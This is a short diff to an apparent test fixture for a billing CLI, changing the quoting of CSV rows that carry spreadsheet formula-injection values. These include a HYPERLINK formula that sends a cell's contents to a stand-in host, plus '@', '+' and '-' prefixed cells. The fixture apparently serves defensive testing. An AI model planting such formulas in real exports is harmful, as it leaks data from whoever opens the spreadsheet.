@@ -11,7 +11,7 @@ from billing_rules import cli
 
 HEADER = "invoice_id;date;practitioner_id;patient_id;birth_date;codes;note\n"
 ROWS = (
-    "F1;2024-02-05;1;=HYPERLINK(\"http://x/\"&A1);1950-01-01;G;@SUM(1+1)\n"
+    'F1;2024-02-05;1;=HYPERLINK("http://x/"&A1);1950-01-01;G;@SUM(1+1)\n'
     "F2;2024-02-05;1;+33612345678;1950-01-01;G;-2\n"
     "F3;2024-02-05;1;P3;1950-01-01;G;ordinaire\n"
 )
